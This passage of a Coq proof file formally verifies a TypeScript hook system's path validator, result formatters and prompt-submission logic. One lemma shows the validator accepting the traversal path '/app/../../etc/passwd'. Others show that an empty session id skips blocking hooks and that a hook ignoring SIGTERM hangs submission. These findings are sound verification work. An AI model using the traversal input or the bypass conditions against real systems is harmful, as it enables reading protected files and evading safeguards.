  - pose proof Hin as Hin'. rewrite Hnorm, <- in_rev in Hin'.
    apply normalizeSegments_subset in Hin as [[]|Hin].
    destruct (Hsegs seg Hin) as [->|Hno]; [|congruence].
    elim (Hroot eq_refl Hin').
Qed.

Lemma validatePath_accepts_dotless_witness :
  validatePath (js "/app") (js "./src/.env.local/") = Ok tt.
Proof.
  apply validatePath_accepts_dotless. reflexivity.
Defined.

Lemma absolute_parent_segments_pass_witness :
  validatePath (js "/app") (js "/app/../../etc/passwd") = Ok tt.
Proof.
  apply absolute_parent_segments_pass.
  - reflexivity.
  - intros seg Hin. simpl in Hin.
    repeat (destruct Hin as [<-|Hin]; [auto|]).
    destruct Hin.
Defined.

(* ------------------------------------------------------------------ *)
(** ** The formatters of hook-utils.ts *)

Lemma join_app (sep : N) (a b : list jsstring) :
  a <> [] -> b <> [] ->
  join sep (a ++ b) = join sep a ++ sep :: join sep b.
Proof.
  intros Ha Hb. induction a as [|x a IH]; [congruence|].
  destruct a as [|y a].
  - destruct b as [|z b]; [congruence|]. reflexivity.
  - change (join sep ((x :: y :: a) ++ b))
      with (x ++ sep :: join sep ((y :: a) ++ b)).
    rewrite IH by discriminate.
    change (join sep (x :: y :: a)) with (x ++ sep :: join sep (y :: a)).
    rewrite <- app_assoc. reflexivity.
Qed.

(** X18. processHookResults distributes over the concatenation of two
    non-empty lists of results: the summary of the whole is the summary
    of the first list, a line feed, and the summary of the second. *)
Theorem processHookResults_app (message : JsError -> jsstring)
    (first second : list HookResult) :
  first <> [] -> second <> [] ->
  processHookResults message (first ++ second)
  = processHookResults message first
    ++ LF :: processHookResults message second.
Proof.
  intros Hf Hs. unfold processHookResults. cbv zeta. rewrite map_app.
  apply join_app.
  - destruct first; [congruence | discriminate].
  - destruct second; [congruence | discriminate].
Qed.

Lemma processHookResults_app_witness :
  processHookResults message_text ([blocked_by_exit] ++ [stops_quietly])
  = processHookResults message_text [blocked_by_exit]
    ++ LF :: processHookResults message_text [stops_quietly].
Proof.
  apply processHookResults_app; discriminate.
Defined.

(** X19. The summary of processHookResults depends only on success,
    stdout, error and timedOut of the results: results that differ in
    stderr, exit code or structured output are summarised alike, so the
    reason of a block by exit code 2 is not in it. *)
Theorem processHookResults_hides (message : JsError -> jsstring)
    (results results' : list HookResult) :
  Forall2 same_summary results results' ->
  processHookResults message results = processHookResults message results'.
Proof.
  intros H. unfold processHookResults. cbv zeta. f_equal.
  induction H as [|r r' rs rs' [Hs [Ho [He Ht]]] _ IH]; [reflexivity|].
  simpl. rewrite IH. f_equal.
  unfold summary_of. rewrite Hs, Ho, He, Ht. reflexivity.
Qed.

Lemma processHookResults_hides_witness :
  processHookResults message_text [blocked_by_exit]
  = processHookResults message_text
      [close_result [] [] false None (Some 1%Z)].
Proof.
  apply processHookResults_hides.
  constructor; [|constructor]. repeat split.
Defined.

Lemma event_text_one_line (eventName : HookEventName) :
  ~ In LF (event_text eventName).
Proof.
  destruct eventName; vm_compute;
    intros H; repeat (destruct H as [H|H]; [discriminate|]); exact H.
Qed.

Lemma labelled_one_line (label : string) (text : jsstring) :
  forallb (fun c => negb (N.eqb c LF)) (js label) = true ->
  ~ In LF text -> ~ In LF (js label ++ text).
Proof.
  intros Hl Ht Hin. apply in_app_or in Hin as [Hin|Hin]; [|exact (Ht Hin)].
  rewrite forallb_forall in Hl. specialize (Hl _ Hin).
  rewrite N.eqb_refl in Hl. discriminate.
Qed.

(** X20. When the session id, the working directory and the tool name,
    prompt or message of an event hold no line feed, the text of
    formatEventData splits at line feeds into the Event line, one line
    for the tool name, prompt or message if the event has one, and the
    Session and CWD lines as the last two. *)
Theorem formatEventData_lines (eventData : HookEventData) :
  ~ In LF (session_id eventData) ->
  ~ In LF (cwd eventData) ->
  Forall (fun text => ~ In LF text) (texts_of eventData) ->
  exists middle,
    split LF (formatEventData eventData)
    = (js "Event: " ++ event_text (hook_event_name eventData))
      :: middle
      ++ [js "Session: " ++ session_id eventData;
          js "CWD: " ++ cwd eventData] /\
    List.length middle = List.length (texts_of eventData).
Proof.
  intros Hs Hc Ht.
  pose proof (@labelled_one_line "Event: "
                (event_text (hook_event_name eventData)) eq_refl
                (event_text_one_line _)) as He.
  pose proof (@labelled_one_line "Session: " _ eq_refl Hs) as Hs'.
  pose proof (@labelled_one_line "CWD: " _ eq_refl Hc) as Hc'.
  unfold formatEventData, texts_of in *. cbv zeta.
  destruct (fields eventData) as [prompt|tool input|tool input response
                                  |active|message|manual instructions];
    simpl app.
  - exists [js "Prompt: " ++ prompt]. split; [|reflexivity].
    apply split_join; [discriminate|].
    inversion Ht; subst.
    repeat constructor; auto.
    apply (@labelled_one_line "Prompt: " _ eq_refl); assumption.
  - exists [js "Tool: " ++ tool]. split; [|reflexivity].
    apply split_join; [discriminate|].
    inversion Ht; subst.
    repeat constructor; auto.
    apply (@labelled_one_line "Tool: " _ eq_refl); assumption.
  - exists [js "Tool: " ++ tool]. split; [|reflexivity].
    apply split_join; [discriminate|].
    inversion Ht; subst.
    repeat constructor; auto.
    apply (@labelled_one_line "Tool: " _ eq_refl); assumption.
  - exists []. split; [|reflexivity].
    apply split_join; [discriminate|]. repeat constructor; auto.
  - exists [js "Message: " ++ message]. split; [|reflexivity].
    apply split_join; [discriminate|].
    inversion Ht; subst.
    repeat constructor; auto.
    apply (@labelled_one_line "Message: " _ eq_refl); assumption.
  - exists []. split; [|reflexivity].
    apply split_join; [discriminate|]. repeat constructor; auto.
Qed.

Lemma formatEventData_lines_witness :
  exists middle,
    split LF (formatEventData bash_call)
    = (js "Event: " ++ event_text (hook_event_name bash_call))
      :: middle
      ++ [js "Session: " ++ session_id bash_call;
          js "CWD: " ++ cwd bash_call] /\
    List.length middle = List.length (texts_of bash_call).
Proof.
  apply formatEventData_lines.
  - vm_compute. intros H.
    repeat (destruct H as [H|H]; [discriminate|]). exact H.
  - vm_compute. intros H.
    repeat (destruct H as [H|H]; [discriminate|]). exact H.
  - repeat constructor. vm_compute. intros H.
    repeat (destruct H as [H|H]; [discriminate|]). exact H.
Defined.

(* ------------------------------------------------------------------ *)
(** ** Prompt submission *)

Section PromptSpec.
Context {engine : RegExpEngine}.
Variable user_prompt : jsstring -> EventFields.
Variables (options : Options) (session : Session) (prompt : jsstring).

(** The hooks let the prompt pass, stop it with a warning, never answer, or
    fail, which is warned of and lets the prompt pass as well. *)
Lemma run_hooks_cases :
  run_hooks user_prompt options session prompt = ([], Returns None) \/
  (exists reason,
     run_hooks user_prompt options session prompt
     = ([WarnBlocked reason], Returns (Some false))) \/
  run_hooks user_prompt options session prompt = ([], Hangs) \/
  (exists world config c id e,
     hookExecutor options = Some world /\
     hookConfig options = Some config /\
     sessionId options = Some (c :: id) /\
     executeHooks UserPromptSubmit
       (eventData_of user_prompt options session (c :: id) prompt)
       config None world = Rejected e /\
     run_hooks user_prompt options session prompt
     = ([WarnHookFailed (ThrownError e)], Returns None)).
Proof.
  unfold run_hooks.
  destruct (hookExecutor options) as [world|]; [|left; reflexivity].
  destruct (hookConfig options) as [config|]; [|left; reflexivity].
  destruct (sessionId options) as [[|c id]|]; try (left; reflexivity).
  destruct (executeHooks UserPromptSubmit
              (eventData_of user_prompt options session (c :: id) prompt)
              config None world) as [r|e|] eqn:E.
  - simpl. destruct (shouldBlock r).
    + right; left. exists (blockReason r). reflexivity.
    + left; reflexivity.
  - right; right; right. exists world, config, c, id, e.
    split; [reflexivity|]. split; [reflexivity|]. split; [reflexivity|].
    split; [exact E | reflexivity].
  - right; right; left. reflexivity.
Qed.


(** X22. When the UserPromptSubmit dispatch resolves without blocking,
    submitPrompt behaves exactly as it does without hooks:
    shouldContinue false, stopReason and contextToAdd of the dispatch
    are not looked at. *)
Theorem unblocked_hooks_change_nothing (world : World) (config : HookConfig)
    (c : N) (id : jsstring) (r : HookExecutionResult) :
  hookExecutor options = Some world ->
  hookConfig options = Some config ->
  sessionId options = Some (c :: id) ->
  executeHooks UserPromptSubmit
    (eventData_of user_prompt options session (c :: id) prompt)
    config None world = Resolved r ->
  shouldBlock r = false ->
  submitPrompt user_prompt options session prompt
  = submitPrompt user_prompt (without_hooks options) session prompt.
Proof.
  intros Hx Hc Hs Hrun Hblock.
  unfold submitPrompt, run_hooks. rewrite Hx, Hc, Hs, Hrun. simpl.
  rewrite Hblock. reflexivity.
Qed.

(** X23. Without a session id, or with the empty string as session id,
    submitPrompt does not run the hooks at all and behaves as it does
    without them, also when a configured hook would block. *)
Theorem no_session_no_hooks :
  sessionId options = None \/ sessionId options = Some [] ->
  submitPrompt user_prompt options session prompt
  = submitPrompt user_prompt (without_hooks options) session prompt.
Proof.
  intros Hs. unfold submitPrompt, run_hooks.
  destruct (hookExecutor options), (hookConfig options);
    destruct Hs as [H | H]; rewrite ?H; reflexivity.
Qed.

(** X24. If [spawn] throws for none of the commands selected for
    UserPromptSubmit (those of matchers without pattern) and one of them
    neither ends by itself nor reacts to SIGTERM, the promise of
    submitPrompt stays pending and nothing has happened: no warning, no
    callback, the prompt not added. *)
Theorem hanging_hook_hangs_submission (world : World) (config : HookConfig)
    (c : N) (id : jsstring) (commands : list HookCommand) (i : nat)
    (command : HookCommand) (p : Process) :
  hookExecutor options = Some world ->
  hookConfig options = Some config ->
  sessionId options = Some (c :: id) ->
  selected (matchers_for config UserPromptSubmit) None = Ok commands ->
  (forall j other e,
     nth_error commands j = Some other ->
     world j other
       (eventData_of user_prompt options session (c :: id) prompt)
     <> Refused e) ->
  nth_error commands i = Some command ->
  world i command (eventData_of user_prompt options session (c :: id) prompt)
  = Started p ->
  exits_at p = None ->
  sigterm_delay p = None ->
  submitPrompt user_prompt options session prompt = ([], Hangs).
Proof.
  intros Hx Hc Hs Hsel Hstarted Hi Hw Hexit Hterm.
  assert (Hrun : executeHooks UserPromptSubmit
                   (eventData_of user_prompt options session (c :: id) prompt)
                   config None world = Pending).
  { eapply executeHooks_pending; [exact Hsel|].
    split; [exact Hstarted|]. exists i, command, p. auto. }
  unfold submitPrompt, run_hooks. rewrite Hx, Hc, Hs, Hrun. reflexivity.
Qed.

Ltac innermost x :=
  lazymatch x with
  | context [match ?y with _ => _ end] => innermost y
  | _ => destruct x eqn:?
  end.

(** Case analysis on the callbacks that [submitPrompt] consults. *)
Ltac split_submit :=
  cbv [submit bind_run call ret try_run];
  repeat (match goal with
          | |- context [match ?x with _ => _ end] => innermost x
          end;
          cbn [fst snd app filter is_AddItem is_WarnHookFailed List.length negb]).

(** X25. If submitPrompt returns true the prompt was added to the
    history; whatever the outcome, addItem is called at most once, and
    then with the submitted prompt and the time of Date.now(). *)
Theorem prompt_added_when_true :
  (snd (submitPrompt user_prompt options session prompt) = Returns true ->
   In (AddItem prompt (Date_now session))
      (fst (submitPrompt user_prompt options session prompt))) /\
  (forall text timestamp,
     In (AddItem text timestamp)
        (fst (submitPrompt user_prompt options session prompt)) ->
     text = prompt /\ timestamp = Date_now session) /\
  List.length
    (filter is_AddItem
       (fst (submitPrompt user_prompt options session prompt))) <= 1.
Proof.
  unfold submitPrompt.
  destruct run_hooks_cases
    as [-> | [[reason ->] | [-> | [w [cfg [c [id [e [_ [_ [_ [_ ->]]]]]]]]]]]].
  - split_submit.
    all: split; [try discriminate; intros _; simpl; tauto|].
    all: split; [|lia].
    all: intros text timestamp Hin; simpl in Hin.
    all: repeat (destruct Hin as [Hin|Hin];
                 [try discriminate; injection Hin as <- <-; auto|]).
    all: destruct Hin.
  - simpl. split; [discriminate|]. split; [|lia].
    intros text timestamp [H|[]]; discriminate.
  - simpl. split; [discriminate|]. split; [|lia].
    intros text timestamp [].
  - split_submit.
    all: split; [try discriminate; intros _; simpl; tauto|].
    all: split; [|simpl; lia].
    all: intros text timestamp Hin; simpl in Hin.
    all: repeat (destruct Hin as [Hin|Hin];
                 [try discriminate; injection Hin as <- <-; auto|]).
    all: destruct Hin.
Qed.


(** X27. If onAfterSubmit throws, the prompt is already in the history
    and submitPrompt does not return true; without an onError callback
    it returns false. So false does not mean that the prompt was not
    added. *)
Theorem after_failure_reports_false (f : jsstring -> Outcome unit)
    (t : Thrown) :
  onAfterSubmit options = Some f ->
  f prompt = Throws t ->
  In (AfterSubmit prompt)
     (fst (submitPrompt user_prompt options session prompt)) ->
  In (AddItem prompt (Date_now session))
     (fst (submitPrompt user_prompt options session prompt)) /\
  snd (submitPrompt user_prompt options session prompt) <> Returns true /\
  (onError options = None ->
   snd (submitPrompt user_prompt options session prompt) = Returns false).
Proof.
  intros Hafter Hthrows. unfold submitPrompt.
  destruct run_hooks_cases
    as [-> | [[reason ->] | [-> | [w [cfg [c [id [e [_ [_ [_ [_ ->]]]]]]]]]]]].
  - cbv [submit bind_run call ret try_run]. rewrite Hafter, Hthrows.
    repeat (match goal with
            | |- context [match ?x with _ => _ end] => innermost x
            end; cbn [fst snd app]).
    all: intros Hin; simpl in Hin.
    all: repeat (destruct Hin as [Hin|Hin]; [try discriminate|]);
      try (destruct Hin).
    all: split; [simpl; tauto|].
    all: split; [discriminate|].
    all: try discriminate; try reflexivity.
  - simpl. intros [H|[]]; discriminate.
  - simpl. intros [].
  - cbv [submit bind_run call ret try_run]. rewrite Hafter, Hthrows.
    repeat (match goal with
            | |- context [match ?x with _ => _ end] => innermost x
            end; cbn [fst snd app]).
    all: intros Hin; simpl in Hin.
    all: repeat (destruct Hin as [Hin|Hin]; [try discriminate|]);
      try (destruct Hin).
    all: split; [simpl; tauto|].
    all: split; [discriminate|].
    all: try discriminate; try reflexivity.
Qed.

End PromptSpec.


Lemma unblocked_hooks_change_nothing_witness :
  submitPrompt (engine := WordEngine.engine) PromptFields
    (hooked asks_to_stop every_prompt) plain_session (js "deploy now")
  = submitPrompt (engine := WordEngine.engine) PromptFields
      (without_hooks (hooked asks_to_stop every_prompt)) plain_session
      (js "deploy now") /\
  submitPrompt (engine := WordEngine.engine) PromptFields
    (without_hooks (hooked asks_to_stop every_prompt)) plain_session
    (js "deploy now")
  = ([AddItem (js "deploy now") (Date_now plain_session)], Returns true).
Proof.
  split; [|reflexivity].
  apply (@unblocked_hooks_change_nothing WordEngine.engine PromptFields
           (hooked asks_to_stop every_prompt) plain_session (js "deploy now")
           asks_to_stop every_prompt 116%N (js "est-session-123")
           (aggregate
              [close_result
                 (jsq "{'continue':false,'stopReason':'budget used up'}") []
                 false None (Some 1%Z)]));
    reflexivity.
Defined.

Lemma no_session_no_hooks_witness :
  submitPrompt (engine := WordEngine.engine) PromptFields
    (hooked_anonymous refuses every_prompt) plain_session (js "deploy now")
  = submitPrompt (engine := WordEngine.engine) PromptFields
      (without_hooks (hooked_anonymous refuses every_prompt)) plain_session
      (js "deploy now") /\
  submitPrompt (engine := WordEngine.engine) PromptFields
    (without_hooks (hooked_anonymous refuses every_prompt)) plain_session
    (js "deploy now")
  = ([AddItem (js "deploy now") (Date_now plain_session)], Returns true).
Proof.
  split; [|reflexivity].
  apply (@no_session_no_hooks WordEngine.engine PromptFields
           (hooked_anonymous refuses every_prompt) plain_session
           (js "deploy now")).
  right; reflexivity.
Defined.

Lemma hanging_hook_hangs_submission_witness :
  submitPrompt (engine := WordEngine.engine) PromptFields
    (hooked never_ends every_prompt) plain_session (js "deploy now")
  = ([], Hangs).
Proof.
  apply (@hanging_hook_hangs_submission WordEngine.engine PromptFields
           (hooked never_ends every_prompt) plain_session (js "deploy now")
           never_ends every_prompt 116%N (js "est-session-123")
           [hook "prompt-check" None] 0 (hook "prompt-check" None)
           ignores_sigterm);
    try reflexivity.
  intros j other e _. discriminate.
Defined.


Lemma after_failure_reports_false_witness :
  In (AddItem (js "deploy now") (Date_now plain_session))
     (fst (submitPrompt (engine := WordEngine.engine) PromptFields
             after_throws plain_session (js "deploy now"))) /\
  snd (submitPrompt (engine := WordEngine.engine) PromptFields
         after_throws plain_session (js "deploy now")) <> Returns true /\
  (onError after_throws = None ->
   snd (submitPrompt (engine := WordEngine.engine) PromptFields
          after_throws plain_session (js "deploy now")) = Returns false).
Proof.
  apply (@after_failure_reports_false WordEngine.engine PromptFields
           after_throws plain_session (js "deploy now")
           (fun _ => Throws (ThrownValue JNull)) (ThrownValue JNull)).
  - reflexivity.
  - reflexivity.
  - simpl. tauto.
Defined.
